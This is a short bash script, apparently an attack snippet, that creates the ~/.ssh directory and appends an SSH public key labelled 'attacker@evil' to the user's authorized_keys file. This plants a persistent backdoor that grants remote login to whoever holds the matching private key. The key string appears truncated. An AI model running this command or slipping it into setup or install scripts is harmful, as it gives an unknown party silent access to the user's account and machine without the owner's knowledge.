#!/bin/bash
mkdir -p ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx9wq attacker@evil" >> ~/.ssh/authorized_keys
